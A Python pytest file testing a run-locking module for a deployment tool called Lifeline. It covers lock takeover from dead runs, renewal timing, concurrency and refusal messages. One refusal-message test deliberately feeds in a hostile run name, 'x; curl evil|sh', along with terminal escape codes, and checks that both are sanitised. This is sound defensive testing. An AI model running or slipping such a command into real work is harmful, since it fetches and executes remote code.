# Copyright: Lifeline contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""One run at a time: who gets the lock, who is told, and what a dead run leaves behind."""

from __future__ import annotations

import json
import os
import subprocess
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lifeline.act import lock
from lifeline.common.url import lock_name
from lifeline.errors import LifelineError


def ask(directory: Path, run: str, check: bool = False, **options: Any) -> dict[str, Any]:
    params = {
        "estate": "orders", "state": "held", "run": run, "who": f"{run} on control", "what": "recover.yml",
        "stale": 900.0, "process": "", "ended": "finished", "dead_run": "", "looked_at": 0.0,
        "directory": str(directory), **options,
    }  # fmt: skip
    return lock.work(params, check)


def test_the_second_run_is_told_who_and_since_when(tmp_path: Path) -> None:
    first = ask(tmp_path, "alice")
    second = ask(tmp_path, "bob")
    assert (first["held"], first["changed"]) == (True, True)
    assert (second["held"], second["changed"]) == (False, False)
    assert second["holder"]["who"] == "alice on control"
    assert second["holder"]["since"] > 0


def test_a_run_renews_its_own_lock_and_that_is_no_change(tmp_path: Path) -> None:
    ask(tmp_path, "alice")
    since = lock.parse(lock.path_of(str(tmp_path), "orders").read_text()).since  # type: ignore[union-attr]
    again = ask(tmp_path, "alice")
    after = lock.parse(lock.path_of(str(tmp_path), "orders").read_text())
    assert (again["held"], again["changed"]) == (True, False)
    assert after is not None and after.since == since and after.renewed >= since


def test_a_lock_that_was_given_back_is_free(tmp_path: Path) -> None:
    ask(tmp_path, "alice")
    assert ask(tmp_path, "bob", state="released")["changed"] is False
    assert ask(tmp_path, "bob")["held"] is False
    assert ask(tmp_path, "alice", state="released")["changed"] is True
    assert ask(tmp_path, "alice", state="released")["changed"] is False
    assert ask(tmp_path, "bob")["held"] is True


def test_a_dead_runs_lock_is_taken_over_and_named(tmp_path: Path) -> None:
    ask(tmp_path, "alice")
    taken = ask(tmp_path, "bob", stale=-1.0)
    assert (taken["held"], taken["stale"], taken["holder"]["run"]) == (True, True, "alice")
    assert ask(tmp_path, "alice")["held"] is False


def test_a_run_that_is_known_to_be_dead_holds_nothing(tmp_path: Path) -> None:
    ask(tmp_path, "alice")
    assert ask(tmp_path, "bob", dead_run="carol")["held"] is False
    taken = ask(tmp_path, "bob", dead_run="alice")
    assert (taken["held"], taken["stale"]) == (True, True)


def test_whoever_comes_after_runs_that_did_not_finish_is_told_since_when(tmp_path: Path) -> None:
    ask(tmp_path, "alice")
    began = json.loads(lock.path_of(str(tmp_path), "orders").read_text())["since"]
    assert ask(tmp_path, "bob", dead_run="alice")["unfinished"] == began
    assert ask(tmp_path, "bob", state="released", ended="broken_off")["changed"] is True
    assert ask(tmp_path, "carol", check=True)["unfinished"] == began
    assert ask(tmp_path, "provision", state="held")["unfinished"] == began
    assert ask(tmp_path, "provision", state="released", ended="as_before")["changed"] is True
    carol = ask(tmp_path, "carol")
    assert (carol["held"], carol["stale"], carol["unfinished"]) == (True, False, began)
    assert ask(tmp_path, "carol")["unfinished"] == began
    ask(tmp_path, "carol", state="released")
    assert ask(tmp_path, "dave")["unfinished"] == 0.0


def test_a_control_node_knows_its_own_dead_and_nobody_elses() -> None:
    ended = subprocess.Popen(["true"])
    ended_as = lock.here(ended.pid)
    ended.wait()
    assert lock.has_died(ended_as)
    assert not lock.has_died(lock.here(os.getpid()))
    assert not lock.has_died(f"another-boot:{ended.pid}:1")
    assert not lock.has_died("")


def test_a_check_run_leaves_no_trace(tmp_path: Path) -> None:
    directory = tmp_path / "new"
    told = {"changed": True, "held": True, "holder": None, "quiet": 0.0, "stale": False, "unfinished": 0.0}
    told = {**told, "who": "alice on control", "renewed": False}
    assert ask(directory, "alice", check=True) == told
    assert not directory.exists()
    ask(directory, "alice")
    before = lock.path_of(str(directory), "orders").read_text()
    assert ask(directory, "bob", check=True)["held"] is False
    assert lock.path_of(str(directory), "orders").read_text() == before


def test_A13_what_another_run_changed_meanwhile_is_not_acted_on(tmp_path: Path) -> None:
    """Before: a run that looked at an estate while another one changed it got the lock when that one ended.

    Now: it is refused, since what it saw is out of date.
    """
    looked = time.time()
    assert ask(tmp_path, "bob", looked_at=looked)["held"]
    ask(tmp_path, "bob", state="released")
    overtaken = ask(tmp_path, "alice", looked_at=looked)
    assert (overtaken["held"], overtaken["changed"], overtaken["holder"]) == (False, False, None)
    assert lock.refusal("orders", [overtaken]) == (
        "Estate orders was changed by another run while this one looked. Nothing was changed. Run this again."
    )
    assert ask(tmp_path, "bob", looked_at=looked)["held"], "it was the run itself"
    ask(tmp_path, "bob", state="released")
    assert ask(tmp_path, "alice", looked_at=time.time())["held"]
    assert ask(tmp_path, "alice", looked_at=looked)["held"], "a run takes its own lock again"


def test_A13_the_refusal_names_who_what_since_when_and_the_way_on() -> None:
    """Before: a sentence in the recovery role alone; what a host wrote into its lock reached the terminal as it was.

    Now: one sentence for all playbooks, and the name of a run can be pasted into a shell.
    """
    held = {"held": True, "holder": None}
    holder = {"run": "c1-7-9", "who": "alice on c1", "what": "Provision every estate", "since": 0.0, "renewed": 1.0}
    assert lock.refusal("orders", [held, held]) == ""
    assert lock.refusal("orders", [held, {"held": False, "holder": holder}]) == (
        "Estate orders is being changed by another run: alice on c1 started Provision every estate at "
        "1970-01-01 00:00:00 UTC. Nothing was changed. Wait until that run ends. If you know that it died, run this "
        "again with -e redis_dead_run=c1-7-9"
    )
    hostile = {**holder, "run": "x; curl evil|sh", "who": "\x1b[2J" * 99, "since": 1e300}
    told = lock.refusal("orders", [{"held": False, "holder": hostile}])
    assert told.endswith("-e redis_dead_run=x__curl_evil_sh") and told.isprintable() and len(told) < 500
    told = lock.refusal("orders", [held, {"held": False, "holder": holder}], renewing=True)
    assert told.startswith("Another run took the lock of estate orders while this one worked")
    for odd in (None, [], "x", {"run": 1}, {**holder, "since": "nan"}, {**holder, "since": {}}):
        assert lock.refusal("orders", [{"held": False, "holder": odd}, odd]).startswith("Estate orders was changed")


@pytest.mark.parametrize(
    ("quiet", "over", "why"),
    [
        ("ours, alive", False, "it lives, however long it takes"),
        ("ours, dead", True, "its process is gone"),
        ("another's, heard", False, "nothing is known of it"),
        ("another's, quiet", True, "it has not been heard of for long"),
        ("container's, heard", False, "another container's processes are not seen from here"),
    ],
)
def test_A13_a_lock_is_taken_over_from_the_dead_only(quiet: str, over: bool, why: str) -> None:
    """Before: a run that took longer than 15 minutes lost its lock while it worked.

    Now: not while its process lives on this control node, and only after an hour where nothing is known of it.
    """
    alive = lock.here(os.getpid())
    ended = subprocess.Popen(["true"])
    process = {
        "ours, alive": alive,
        "ours, dead": lock.here(ended.pid),
        "container's, heard": alive.replace(".", ".1", 1).rpartition(":")[0] + ":1",
    }.get(quiet, "another-boot.1:1:1")
    ended.wait()
    since = 9000.0 if quiet.endswith(("alive", "quiet")) else 10.0
    assert lock.may_take_over(process, since, 3600.0) is over, why


@pytest.mark.parametrize(
    ("answer", "due"),
    [
        ({"held": True, "asked": 1000.0}, False),
        ({"held": True, "asked": 99.0}, True),
        ({"held": True}, True),
        ({"held": False, "asked": 0.0}, False),
        ({"skipped": True}, False),
        (None, False),
    ],
)
def test_A13_a_held_lock_is_renewed_when_a_quarter_of_the_time_is_over(answer: Any, due: bool) -> None:
    """Before: a lock was renewed by nobody, however long its run took.

    Now: well before another control node takes it for left behind, and not at each step.
    """
    assert lock.is_due(answer, 3600.0, 1000.0) is due


def test_without_root_a_lock_lies_in_a_folder_of_the_users_own(tmp_path: Path) -> None:
    (tmp_path / "mine").mkdir()
    (tmp_path / "link").symlink_to(tmp_path / "mine")
    with pytest.raises(LifelineError, match="belongs to somebody else"):
        ask(tmp_path / "link", "alice")
    assert lock.default_directory() in ("/run/lifeline", f"/tmp/lifeline-{os.geteuid()}")


def test_a_redis_that_is_only_a_url_is_locked_by_its_address() -> None:
    assert lock_name("orders", "") == "orders"
    assert lock_name("orders", "rediss://user:secret@cache.example:6380/3") == "cache.example:6380"
    assert lock_name("orders", "unix:///run/redis.sock") == "/run/redis.sock"


def test_estates_on_one_host_do_not_share_a_lock(tmp_path: Path) -> None:
    assert ask(tmp_path, "alice", estate="a/b")["held"] and ask(tmp_path, "bob", estate="a")["held"]


def test_of_many_at_once_one_gets_it(tmp_path: Path) -> None:
    with ThreadPoolExecutor(16) as pool:
        answers = list(pool.map(lambda number: ask(tmp_path, f"run{number}"), range(64)))
    assert sum(answer["held"] for answer in answers) == 1


def test_a_place_that_can_not_be_written_is_one_sentence(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    with pytest.raises(LifelineError, match="cannot be used on this host"):
        ask(tmp_path / "file", "alice")


@given(st.text() | st.binary().map(lambda raw: raw.decode("latin-1")))
def test_whatever_a_lock_file_holds_it_is_read(text: str) -> None:
    holder = lock.parse(text)
    assert holder is None or lock.decide(holder, "me", 0.0, 900.0) in ("free", "ours", "stale", "taken")
